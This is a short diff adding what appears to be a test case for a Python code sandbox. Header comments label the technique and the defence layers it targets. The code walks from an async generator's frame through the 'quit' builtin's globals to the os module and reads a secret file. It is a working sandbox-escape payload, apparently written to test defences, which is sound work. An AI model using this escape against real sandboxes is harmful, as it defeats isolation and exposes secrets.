@@ -1,0 +1,12 @@
+# class: exceptions and frames
+# technique: the frame of an asynchronous generator
+# layers: analyzer, landlock, seccomp, identity
+# code: user
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+async def waiting():
+    yield
+g = waiting().ag_frame.f_builtins["quit"].__init__.__globals__
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
